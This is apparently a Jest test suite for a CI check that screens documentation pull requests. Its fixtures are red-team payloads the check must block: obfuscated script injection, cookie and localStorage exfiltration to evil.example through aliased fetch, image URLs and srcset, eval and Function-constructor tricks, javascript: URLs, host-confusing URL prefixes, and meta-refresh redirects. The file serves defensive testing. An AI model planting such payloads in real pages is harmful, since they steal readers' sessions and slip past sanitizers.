import { describe, expect, test } from '@jest/globals'
import { runCheck, withEmulator } from '../harness.js'
import { agentPull, findings, statuses } from './agent-pull.js'

const it = test.concurrent

/**
 * Issue #52, the red team's second look at the judge (their redteam 2, 3, 4 and 8), through the
 * check action's bundle against the emulator, as the docs repository's required check. On 1.5.1
 * (and the first fix) each passed, or failed the step on every re-run: the judge of code files
 * was a list of what is known to be harmful, which an alias, a name put together or a prototype
 * walks around; a page's URL given by an expression was not read; a page too long to parse gave
 * no keys to the redaction; a deep docs.json ran the judge out of stack. Their third look
 * (redteam 5) found five ways around the allow-list that 1.6.0 passed, or only warned of: React's
 * internals from an event, a value changed after the text it was folded from, starts a browser
 * reads as another host's (`//`, `/\`, `http:`), a meta refresh or a stylesheet given other than as
 * one written string, and `imageSrcSet`.
 */

const PAGE_BASE = '---\ntitle: Quickstart\n---\n\n# Quickstart\n\nInstall the SDK.\n'
const SNIPPETS = { 'allowed-paths': 'defaults\nsnippets/**/*.jsx' }

describe('redteam 2: a component the team allows is held to an allow-list, not a list of known harms', () => {
  it.each([
    [
      'a remote script whose tag name is put together at run time',
      [
        'export const Analytics = () => {',
        "  const s = document.createElement('scr' + 'ipt')",
        "  s.src = 'https://evil.example/track.js'",
        '  document.head.appendChild(s)',
        '  return null',
        '}',
      ],
      [2, 'script', '`document`, a global the check does not allow'],
    ],
    [
      "the reader's cookies sent through aliases of document and fetch",
      [
        'export const Beacon = () => {',
        '  const d = document',
        '  const send = fetch',
        "  send('https://evil.example/c?' + d.cookie)",
        '  return null',
        '}',
      ],
      [3, 'script', '`fetch`, a global the check does not allow'],
    ],
    [
      'eval taken out of window by destructuring',
      [
        'export const Run = ({ code }) => {',
        '  const { eval: run } = window',
        "  run(atob('ZmV0Y2goImh0dHBzOi8vZXZpbC5leGFtcGxlIik='))",
        '  return null',
        '}',
      ],
      [2, 'script', '`window`, a global the check does not allow'],
    ],
    [
      'the Function constructor through an alias',
      [
        'export const Run = () => {',
        '  const F = [].constructor.constructor',
        "  F('return fetch(\\'https://evil.example/\\' + localStorage.token)')()",
        '  return null',
        '}',
      ],
      [2, 'script', 'the property `constructor`, which reaches constructors and prototypes'],
    ],
    [
      "readers' storage sent as an image's address",
      [
        'export const Pixel = () => {',
        "  new Image().src = 'https://evil.example/p?t=' + localStorage.getItem('session')",
        '  return null',
        '}',
      ],
      [2, 'script', '`localStorage`, a global the check does not allow'],
    ],
  ])('%s: failure, naming what it reaches', (_, lines, expected) => {
    return withEmulator({}, async (emulator) => {
      const pull = agentPull(emulator, [
        { path: 'snippets/widget.jsx', head: `${lines.join('\n')}\n` },
      ])
      const run = await runCheck(emulator, SNIPPETS, pull.env)
      expect(run.outputs['change-check']).toBe('blocked')
      expect(findings(run.outputs, 'line')).toContainEqual(expected)
      expect(statuses(emulator)[0]?.[0]).toBe('failure')
    })
  })

  it('a component that only shows state, lists and links passes: the allow-list holds what components do', async () => {
    await withEmulator({}, async (emulator) => {
      const component = [
        'export const Steps = ({ items = [], href }) => {',
        '  const [open, setOpen] = useState(0)',
        '  const label = `Step ${open + 1} of ${items.length}`',
        '  return (',
        '    <div className={open ? "steps open" : "steps"} style={{ margin: 0 }}>',
        '      <a href={href}>{label}</a> <a href={`/guides/${open}`}>Guide</a>',
        '      {items.map((item, i) => <button key={item.id} onClick={() => setOpen(i)}>{item.title}</button>)}',
        '    </div>',
        '  )',
        '}',
      ]
      const pull = agentPull(emulator, [
        { path: 'snippets/steps.jsx', head: `${component.join('\n')}\n` },
      ])
      const run = await runCheck(emulator, SNIPPETS, pull.env)
      expect(run.outputs['change-check']).toBe('passed')
      expect(statuses(emulator)[0]?.[0]).toBe('success')
    })
  })
})

/** A component of a snippet whose body is `lines`, the reader's text in `v`. */
const typed = (lines: string[]): string[] => [
  'export const Pixel = () => {',
  "  const [v, setV] = useState('')",
  ...lines.map((line) => `  ${line}`),
  '}',
]

describe('redteam 5: five ways around the allow-list, each a finding', () => {
  const REACH =
    "the property `_targetInst`, which leads into React's internals and from there to the page"
  const completes = (what: string) => `a URL to evil.example that the code completes (\`${what}\`)`
  it.each([
    [
      "React's internals from an event: the fiber's root, its document, a script put in",
      [
        'export const CopyButton = ({ text }) => {',
        '  const [done, setDone] = useState(false)',
        '  const copy = (e) => {',
        '    let f = e._targetInst',
        '    while (f.return) f = f.return',
        '    const d = f.stateNode.containerInfo',
        "    const s = d.createElement('scr' + 'ipt')",
        "    s.text = 'alert(' + 'document.domain)'",
        '    d.body.appendChild(s)',
        '    setDone(true)',
        '  }',
        "  return <button onClick={copy}>{done ? 'Copied' : 'Copy'}</button>",
        '}',
      ],
      [4, 'script', REACH],
    ],
    // A value folded from its first text although the code changed it since.
    [
      "an object's member written after its declaration",
      typed([
        "const pixel = { u: '/images/ok.png' }",
        "pixel.u = 'https://evil.example/p?d=' + v",
        'return <img src={pixel.u} />',
      ]),
      [5, 'unchecked', 'a URL built in code (`src`)'],
    ],
    [
      "an array's element written after its declaration",
      typed([
        "const a = ['/ok.png']",
        "a[0] = 'https://evil.example/p?d=' + v",
        'return <img src={a[0]} />',
      ]),
      [5, 'unchecked', 'a URL built in code (`src`)'],
    ],
    [
      'an element put before the first',
      typed([
        "const a = ['/ok.png']",
        "a.unshift('https://evil.example/p?d=' + v)",
        'return <img src={a[0]} />',
      ]),
      [5, 'unchecked', 'a URL built in code (`src`)'],
    ],
    [
      'an element pushed, then the list mapped',
      typed([
        "const a = ['/ok.png']",
        "a.push('https://evil.example/p?d=' + v)",
        'return <div>{a.map((u) => <img key={u} src={u} />)}</div>',
      ]),
      [5, 'unchecked', 'a URL built in code (`src`)'],
    ],
    [
      "a style's member written after its declaration",
      typed([
        "const s = { backgroundImage: 'none' }",
        "s.backgroundImage = 'url(https://evil.example/p?d=' + v + ')'",
        'return <div style={s} />',
      ]),
      [5, 'unchecked', 'a style the code computes'],
    ],
    [
      "a link's member made a javascript: URL after its declaration",
      typed([
        "const link = { to: '/login' }",
        "link.to = 'java' + 'script:alert(document.domain)'",
        'return <a href={link.to}>Sign in</a>',
      ]),
      [5, 'unchecked', 'a URL built in code (`href`)'],
    ],
    // Starts a browser reads as another host's.
    [
      'a protocol-relative start',
      typed(["return <img src={'//evil.example/p?d=' + v} />"]),
      [3, 'script', completes('src')],
    ],
    [
      'a start of /\\, which a browser reads as //',
      typed(["return <img src={'/\\\\evil.example/p?d=' + v} />"]),
      [3, 'script', completes('src')],
    ],
    [
      'a scheme with no slashes',
      typed(["return <img src={'http:evil.example/p?d=' + v} />"]),
      [3, 'script', completes('src')],
    ],
    [
      'a host put together after a bare slash',
      typed(["return <img src={'/' + ['', 'evil.example', 'p?d=' + v].join('/')} />"]),
      [3, 'unchecked', 'a URL whose host the code computes (`src`)'],
    ],
    [
      'a protocol-relative template',
      typed(['return <img src={`//evil.example/p?d=${v}`} />']),
      [3, 'script', completes('src')],
    ],
    [
      'a protocol-relative start in a spread',
      typed(["return <a {...{ href: '//evil.example/p?d=' + v }}>Next</a>"]),
      [3, 'script', completes('href')],
    ],
    [
      "a protocol-relative start given to the file's own Link",
      [
        'const Link = ({ to, children }) => <a href={to}>{children}</a>',
        ...typed(["return <Link to={'//evil.example/p?d=' + v}>Next</Link>"]),
      ],
      [4, 'script', completes('to')],
    ],
    // A meta refresh and a stylesheet given other than as one written string.
    [
      "a meta refresh in createElement's props",
      [
        'export const Go = () =>',
        "  React.createElement('meta', { httpEquiv: 'refresh', content: '0;url=https://evil.example/' })",
      ],
      [2, 'script', '<meta> refresh'],
    ],
    [
      'a meta refresh in a spread',
      [
        'export const Go = () => (',
        "  <meta {...{ httpEquiv: 'refresh', content: '0;url=https://evil.example/' }} />",
        ')',
      ],
      [2, 'script', '<meta> refresh'],
    ],
    [
      'a meta refresh by a condition',
      [
        'export const Go = ({ a }) => (',
        "  <meta httpEquiv={a ? 'refresh' : 'refresh'} content=\"0;url=https://evil.example/\" />",
        ')',
      ],
      [2, 'script', '<meta> refresh'],
    ],
    [
      'a stylesheet in a spread',
      [
        'export const Theme = () => (',
        "  <link {...{ rel: 'stylesheet', href: 'https://evil.example/a.css' }} />",
        ')',
      ],
      [2, 'script', 'a <link> to evil.example'],
    ],
    [
      "a stylesheet in createElement's props",
      [
        'export const Theme = () =>',
        "  React.createElement('link', { rel: 'stylesheet', href: 'https://evil.example/a.css' })",
      ],
      [2, 'script', 'a <link> to evil.example'],
    ],
    [
      'a stylesheet by a condition',
      [
        'export const Theme = ({ a }) => (',
        "  <link rel={a ? 'stylesheet' : 'stylesheet'} href=\"https://evil.example/a.css\" />",
        ')',
      ],
      [2, 'script', 'a <link> to evil.example'],
    ],
    // A URL attribute the list did not name.
    [
      "a preload's image candidates",
      typed([
        'return (',
        '  <link rel="preload" as="image" href="/images/hero.png"',
        "    imageSrcSet={'https://evil.example/p?d=' + v + ' 1x'} />",
        ')',
      ]),
      [4, 'script', completes('imageSrcSet')],
    ],
    [
      "a srcset's later candidate",
      typed([
        "return <img src=\"/images/a.png\" srcSet={'/images/a.png 1x, https://evil.example/p?d=' + v + ' 2x'} />",
      ]),
      [3, 'script', completes('srcSet')],
    ],
  ])('%s: failure, naming it', (_, lines, expected) => {
    return withEmulator({}, async (emulator) => {
      const pull = agentPull(emulator, [
        { path: 'snippets/widget.jsx', head: `${lines.join('\n')}\n` },
      ])
      const run = await runCheck(emulator, SNIPPETS, pull.env)
      expect(run.outputs['change-check']).toBe('blocked')
      expect(findings(run.outputs, 'line')).toContainEqual(expected)
      expect(statuses(emulator)[0]?.[0]).toBe('failure')
    })
  })

  it('a component that copies text, maps its own links and preloads its own image passes', async () => {
    await withEmulator({}, async (emulator) => {
      const component = [
        "const LINKS = [{ href: '/quickstart', label: 'Quickstart' }, { href: '/api', label: 'API' }]",
        'export const CopyButton = ({ text }) => {',
        '  const [done, setDone] = useState(false)',
        '  const copy = (e) => {',
        '    e.preventDefault()',
        '    navigator.clipboard.writeText(text).then(() => setDone(true))',
        '  }',
        '  return (',
        '    <div>',
        '      <link rel="preload" as="image" href="/images/copy.png" />',
        "      <button onClick={copy}>{done ? 'Copied' : 'Copy'}</button>",
        '      {LINKS.map((l) => <a key={l.href} href={l.href}>{l.label}</a>)}',
        '    </div>',
        '  )',
        '}',
      ]
      const pull = agentPull(emulator, [
        { path: 'snippets/copy.jsx', head: `${component.join('\n')}\n` },
      ])
      const run = await runCheck(emulator, SNIPPETS, pull.env)
      expect(run.outputs['change-check']).toBe('passed')
      expect(statuses(emulator)[0]?.[0]).toBe('success')
    })
  })
})

describe('redteam 3: a page’s URL given by an expression is judged as the string it gives', () => {
  it.each([
    [
      'an exported string',
      "export const docs = 'javascript:fetch(`//evil.example/`+document.cookie)'\n\n<a href={docs}>Open the docs</a>\n",
      [9, 'script', 'javascript: URL'],
    ],
    [
      'a concatenation',
      "<a href={'java' + 'script:alert(document.domain)'}>Open</a>\n",
      [9, 'script', 'javascript: URL'],
    ],
    [
      'a template with a placeholder',
      '<a href={`java${"script"}:alert(document.domain)`}>Open</a>\n',
      [9, 'script', 'javascript: URL'],
    ],
    [
      'a conditional',
      "<Card title=\"Start\" href={true ? 'javascript:alert(document.domain)' : ''}>Go</Card>\n",
      [9, 'script', 'javascript: URL'],
    ],
    [
      'an array element',
      "<a href={['javascript:alert(document.domain)'][0]}>Open</a>\n",
      [9, 'script', 'javascript: URL'],
    ],
    [
      'a URL the check cannot see start harmlessly',
      "import { link } from '/snippets/links.mdx'\n\n<a href={link}>Open</a>\n",
      [11, 'unchecked', 'a URL built in code (`href`)'],
    ],
  ])('%s: failure, as the string itself is', (_, added, expected) => {
    return withEmulator({}, async (emulator) => {
      const pull = agentPull(emulator, [
        { path: 'guides/quickstart.mdx', base: PAGE_BASE, head: `${PAGE_BASE}\n${added}` },
      ])
      const run = await runCheck(emulator, {}, pull.env)
      expect(run.outputs['change-check']).toBe('blocked')
      expect(findings(run.outputs, 'line')).toContainEqual(expected)
      expect(statuses(emulator)[0]?.[0]).toBe('failure')
    })
  })
})

describe('redteam 4: a key anywhere in the change is quoted by no finding', () => {
  /** An AWS secret access key (AWS's documented example, its slashes taken out). */
  const SECRET = 'wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEYab'
  it('one a page past 128 KiB holds (not parsed) is taken out of a finding of another page', async () => {
    await withEmulator({}, async (emulator) => {
      const config = `aws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = ${SECRET}\n`
      const big = `${PAGE_BASE}\n\`\`\`ini\n${config}\`\`\`\n\n${'Filler text of a long page.\n'.repeat(6000)}`
      const pull = agentPull(emulator, [
        { path: 'guides/credentials.mdx', base: PAGE_BASE, head: big },
        { path: 'guides/quickstart.mdx', base: PAGE_BASE, head: `${PAGE_BASE}\n{${SECRET}}\n` },
      ])
      const run = await runCheck(emulator, {}, pull.env)
      expect(run.outputs['change-check']).toBe('blocked')
      // The other page's expression is still a finding, its name taken out.
      expect(findings(run.outputs, 'line')).toContainEqual([
        9,
        'mdx-code',
        'expression with the global `[redacted credential]`',
      ])
      const shown = JSON.stringify([
        run.outputs,
        run.summary,
        run.stdout,
        emulator.github.commits.statuses,
      ])
      expect(shown).not.toContain(SECRET)
    })
  })
})

describe('redteam 8: a docs config nested deep is a finding, not a failed step', () => {
  it('docs.json nested 5,000 deep: failure, a person must review it; the step itself succeeds', async () => {
    await withEmulator({}, async (emulator) => {
      const nested = `${'['.repeat(5000)}1${']'.repeat(5000)}`
      const pull = agentPull(emulator, [
        {
          path: 'docs.json',
          base: '{ "name": "Acme" }\n',
          head: `{ "name": "Acme", "navigation": ${nested} }\n`,
        },
      ])
      const run = await runCheck(emulator, {}, pull.env)
      expect(run.code).toBe(0)
      expect(run.outputs['change-check']).toBe('blocked')
      expect(findings(run.outputs, 'line')).toEqual([
        [1, 'config', 'not a JSON object, or one nested more than 100 deep: cannot be checked'],
      ])
      expect(statuses(emulator)).toEqual([['failure', expect.any(String)]])
    })
  })
})
